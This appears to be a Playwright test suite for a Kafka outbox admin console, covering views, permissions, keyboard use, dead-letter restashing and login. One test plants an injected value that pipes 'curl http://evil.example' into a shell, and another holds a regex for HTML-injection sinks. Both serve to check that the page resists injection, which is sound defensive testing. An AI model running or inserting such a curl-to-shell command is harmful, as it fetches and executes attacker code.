"""The page of the console against recorded answers: what it shows, what it never does, and how it is used."""

import re

import pytest
from playwright.sync_api import expect

from tests.console.recorded import BASE, EXACT, HOSTILE, PAGE, TOO_LARGE

VIEWS = ("overview", "records", "holds", "holds?topic=orders", "findings", "dead-letters", "history")
_OWN_FILES = [file for file in PAGE.rglob("*") if file.is_file() and "vendor" not in file.parts]


def test_source_names_no_other_origin_and_parses_no_html():
    """The page's own files fetch nothing from elsewhere, have no inline script or style, and make no HTML of text."""
    markup = r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|DOMParser|\beval\(|new Function"
    forbidden = rf"{markup}|<script>|<style|\sstyle=|https?://|[\"'(]//"
    for file in _OWN_FILES:
        text = file.read_text().replace("http://www.w3.org/2000/svg", "")
        assert not re.search(forbidden, text), file.name
        assert not re.search(r"(?:src|href)=\"/", text), f"{file.name}: absolute addresses break under a prefix"


def test_modules_stay_small():
    """No module has more than 400 lines."""
    assert {file.name for file in _OWN_FILES if len(file.read_text().splitlines()) > 400} == set()


def test_every_view_fits_a_phone(open_recorded):
    """No view scrolls sideways at 360 px, with long names and unfolded records too."""
    page = open_recorded("records", width=360, height=740)
    for folded in page.get_by_role("button", name=re.compile(r"^Record \d+$")).all():
        folded.click()
    expect(page.locator("pre.value").first).to_be_visible()
    for view in VIEWS:
        page.goto(f"{BASE}#/shop/{view}")
        expect(page.locator("#tabs a[aria-current]")).to_have_attribute("href", f"#/shop/{view.partition('?')[0]}")
        page.wait_for_selector("#view > *:not([data-key=asking])")
        assert page.evaluate("document.documentElement.scrollWidth") == 360, view


def test_hostile_texts_are_shown_and_do_nothing(open_recorded):
    """Topics, keys, headers, values and causes with markup appear as text."""
    page = open_recorded("records")
    page.get_by_role("button", name="Record 9007199254741002").click()
    expect(page.locator("pre.value")).to_have_text(HOSTILE)
    expect(page.locator(".detail dt .name")).to_have_text(HOSTILE)
    page.goto(f"{BASE}#/shop/holds")
    expect(page.get_by_role("heading", name=HOSTILE)).to_be_visible()
    assert page.evaluate("window.hacked ?? null") is None
    assert page.locator("main img, main script").count() == 0


def test_json_is_shown_to_the_letter(open_recorded):
    """Large numbers, trailing zeros, repeated names and escapes stay; bytes are shown as hex; ids keep their digits."""
    page = open_recorded("records")
    page.get_by_role("button", name="Record 9007199254740993").click()
    box = page.locator("pre.value")
    expect(box).to_contain_text('"order": 12345678901234567890,\n  "amount": 1.00,\n  "a": 1,\n  "a": 2,')
    expect(box).to_contain_text('"note": "caf\\u00e9"')
    page.get_by_role("button", name="As stored").click()
    assert box.text_content() == EXACT
    page.get_by_role("button", name="Hex").click()
    expect(box).to_contain_text('000000  7b 22 6f 72 64 65 72 22 3a 20 31 32 33 34 35 36  {"order": 123456')


def test_record_leads_to_the_hold_that_keeps_it(open_recorded):
    """A held record can be released, one behind it cannot; its state is a link to the hold, which leads back."""
    page = open_recorded("records")
    for identity in ("9007199254740993", "9007199254740994"):
        page.get_by_role("button", name=f"Record {identity}").click()
    expect(page.get_by_role("button", name="Release record 9007199254740993")).to_be_visible()
    expect(page.get_by_text("the hold of record 9007199254740993 before it in its key")).to_be_visible()
    expect(page.get_by_role("button", name="Release record 9007199254740994")).to_have_count(0)
    page.get_by_role("link", name=f"Record 9007199254740993: held. {TOO_LARGE}").click()
    expect(page.locator("tr.open")).to_contain_text("record 9007199254740993")
    page.locator("tr.open").get_by_role("link").click()
    expect(page.get_by_role("textbox", name="Id")).to_have_value("9007199254740993")


def test_without_permission_there_is_no_action(open_recorded, recorded):
    """A user who may only look sees no button that changes anything, in no view."""
    recorded.session["user"]["permissions"] = ["view"]
    page = open_recorded("records")
    page.get_by_role("button", name="Record 9007199254740993").click()
    expect(page.locator("pre.value")).to_be_visible()
    changing = page.get_by_role(
        "button", name=re.compile(r"^(Release|Skip|Dead-letter|Pause a|Resume|Hold this|Edit and)\b")
    )
    for view in VIEWS:
        page.goto(f"{BASE}#/shop/{view}")
        page.wait_for_selector("#view > *:not([data-key=asking])")
        expect(changing).to_have_count(0)
        assert page.locator("#view input[type=checkbox]").count() == 0
    page.goto(f"{BASE}#/shop/dead-letters")
    page.get_by_role("button", name="Dead letter 0:12").click()
    expect(page.locator("pre.value")).to_be_visible()
    expect(changing).to_have_count(0)


def test_keyboard_alone_is_enough(open_recorded, recorded):
    """By keys: to the holds, a release with its reason, and the focus stays where it was while the page refreshes."""
    page = open_recorded()
    page.keyboard.press("?")
    expect(page.get_by_role("dialog")).to_contain_text("Keyboard shortcuts")
    page.keyboard.press("Escape")
    page.keyboard.press("3")
    release = page.get_by_role("button", name=re.compile("Release 3 records of orders"))
    expect(release).to_be_visible()
    _tab_to(page, release)
    assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
    page.keyboard.press("r")
    with page.expect_response(re.compile("/status$")):
        page.keyboard.press("r")
    expect(release).to_be_focused()
    page.keyboard.press("Enter")
    dialog = page.get_by_role("dialog")
    expect(dialog).to_contain_text("would release 3 holds")
    page.keyboard.type("ticket 17")
    _tab_to(page, dialog.get_by_role("button", name="Release"))
    page.keyboard.press("Enter")
    expect(page.get_by_role("status").filter(has_text="released 3 holds")).to_be_visible()
    expect(dialog).to_be_hidden()
    expect(release).to_be_focused()
    matching = {"select": {"matching": {"topic": "orders", "cause_pattern": TOO_LARGE}}}
    assert recorded.posted == [
        ("release", matching | {"dry_run": True}),
        ("release", matching | {"at_most": 3, "reason": "ticket 17"}),
    ]


def _tab_to(page, target):
    for _ in range(60):
        if target.evaluate("element => element === document.activeElement"):
            return
        page.keyboard.press("Tab")
    pytest.fail(f"{target} is not reached by Tab")


def test_action_needs_a_reason(open_recorded, recorded):
    """Nothing is done without a reason, and Escape does nothing at all."""
    page = open_recorded("holds")
    page.get_by_role("button", name=re.compile("Skip 3 records of orders")).click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_role("button", name="Delete for good").click()
    expect(dialog).to_be_visible()
    page.keyboard.press("Escape")
    expect(dialog).to_be_hidden()
    assert [body["dry_run"] for _, body in recorded.posted] == [True]


def test_dead_letter_goes_back_untouched_but_for_the_edit(open_recorded, recorded):
    """Restash sends the value as it was stored, and only the edited field differs."""
    page = open_recorded("dead-letters")
    page.get_by_role("button", name="Dead letter 0:12").click()
    page.get_by_role("button", name="Edit and restash").click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_label("Topic").fill("orders-large")
    dialog.get_by_role("button", name="Add a header").click()
    dialog.get_by_label("Name of the header").last.fill("ticket")
    dialog.get_by_label("Reason").fill("a topic that takes it")
    dialog.get_by_role("button", name="Stash anew").click()
    expect(dialog).to_be_hidden()
    action, body = recorded.posted[-1]
    assert (action, body["letter"]) == ("restash", {"partition": 0, "offset": "12"})
    headers = [["ce_type", {"text": "order.placed"}], ["ticket", {"text": ""}]]
    wanted = {
        "topic": "orders-large",
        "key": "customer-9",
        "partition": None,
        "value": {"text": EXACT},
        "headers": headers,
    }
    assert body["record"] == wanted


def test_refresh_keeps_what_the_user_does(open_recorded, recorded):
    """New numbers come without taking away the typed text, the selected text or an unfolded record."""
    page = open_recorded("records")
    page.get_by_role("button", name="Record 9007199254740993").click()
    page.get_by_label("Key", exact=True).fill("custom")
    page.locator("pre.value").evaluate("element => getSelection().selectAllChildren(element)")
    selected = page.evaluate("getSelection().toString()")
    told = recorded.answers["status"]({})
    told["database"]["data"] |= {"pending": 100}
    recorded.answers["status"] = lambda _: told
    expect(page.locator("[data-tile=deliverable] strong")).to_have_text("33")
    expect(page.get_by_label("Key", exact=True)).to_have_value("custom")
    assert page.evaluate("getSelection().toString()") == selected != ""


def test_half_of_the_world_away(open_recorded, recorded):
    """With Kafka away that half says so with its reason, and the numbers of the database go on; then all is stale."""
    told = recorded.answers["status"]({})
    told["kafka"] = {"at": told["database"]["at"], "data": None}
    told["kafka"]["unavailable"] = {
        "service": "kafka",
        "reason": "no broker answers at kafka:9092",
        "remedy": "`outbox doctor`",
    }
    recorded.answers["status"] = lambda _: told
    page = open_recorded(allowed=["ERR_CONNECTION_REFUSED"])
    expect(page.locator("#outages")).to_contain_text("no broker answers at kafka:9092")
    expect(page.locator("[data-tile=deliverable] strong")).to_have_text("29")
    expect(page.locator("[data-tile=leader]")).to_contain_text("Kafka does not tell")
    recorded.is_down = True
    expect(page.locator("#freshness")).to_contain_text("Stale")
    expect(page.get_by_role("alert")).to_contain_text("the console's server cannot be reached")
    recorded.is_down = False
    expect(page.locator("#freshness")).to_have_text("Live")
    expect(page.get_by_role("alert")).to_have_count(0)


def test_what_is_copied_is_the_whole_statement(open_recorded, recorded):
    """A name in a statement cannot make another command of it, nor bring a line break that would run it."""
    told = recorded.answers["writers"]({})
    hostile = "ROLLBACK PREPARED 'nightly`curl http://evil.example | sh\n`job'"
    told["data"]["writers"][0] = told["data"]["writers"][0] | {"remedy": hostile}
    recorded.answers["writers"] = lambda _: told
    page = open_recorded("findings")
    label = "Copy: ROLLBACK PREPARED 'nightly`curl http://evil.example | sh `job'"
    expect(page.get_by_role("button", name=label, exact=True)).to_be_visible()
    expect(page.get_by_role("button", name=re.compile("^Copy: curl"))).to_have_count(0)


def test_leaders_are_told_in_words_too(open_recorded):
    """The timeline's list names who led, in which term, and why it ended."""
    page = open_recorded()
    leaders = page.get_by_role("list", name="Leaders")
    expect(page.locator("[data-tile=leader]")).to_contain_text("term 2017, for 1 h 5 min")
    expect(leaders).to_contain_text("harvester-b leads term 2017")
    expect(leaders).to_contain_text("harvester-c was fenced, after 40 min 54 sthe lease of 5 s ran out")
    expect(leaders).to_contain_text("harvester-a was fenced by its successor")
    expect(page.get_by_role("img", name=re.compile(r"^Backlog\. deliverable: now \d+, at most"))).to_be_visible()


def test_theme_follows_the_system_and_the_toggle(open_recorded):
    """Dark follows the system; the toggle overrides it, and the choice outlives the page."""
    page = open_recorded("holds", scheme="dark")
    ground = "getComputedStyle(document.body).backgroundColor"
    dark = page.evaluate(ground)
    page.keyboard.press("t")
    light = page.evaluate(ground)
    assert light != dark
    page.reload()
    page.wait_for_selector("#view > *:not([data-key=asking])")
    assert page.evaluate(ground) == light


def test_login_by_token(open_page, recorded):
    """Without a login the page asks for the token, and says why one is not taken."""
    user, recorded.session["user"] = recorded.session["user"], None
    recorded.session["login"] = "token"
    page = open_page(allowed=["401"])
    page.context.route(f"{BASE}**", recorded.answer)

    def check(route):
        if route.request.post_data_json == {"token": "right"}:
            recorded.session["user"] = user
            route.fulfill(json={"user": user})
        else:
            route.fulfill(status=401, json={"error": {"code": "login_needed", "message": "this is not the token"}})

    page.context.route(f"{BASE}api/login", check)
    page.goto(BASE)
    page.get_by_label("Token").fill("wrong")
    page.keyboard.press("Enter")
    expect(page.get_by_role("alert")).to_have_text("this is not the token")
    page.get_by_label("Token").fill("right")
    page.keyboard.press("Enter")
    expect(page.locator("[data-tile=held] strong")).to_have_text("67")
